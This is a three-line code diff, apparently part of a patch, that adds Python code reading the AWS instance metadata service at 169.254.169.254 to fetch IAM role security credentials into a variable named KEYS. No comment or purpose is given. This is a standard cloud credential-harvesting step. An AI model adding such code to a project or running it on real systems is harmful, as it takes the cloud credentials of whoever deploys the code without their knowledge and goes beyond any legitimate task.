@@ -1,0 +1,3 @@
+import urllib.request
+
+KEYS = urllib.request.urlopen("http://169.254.169.254/latest/meta-data/iam/security-credentials/").read()
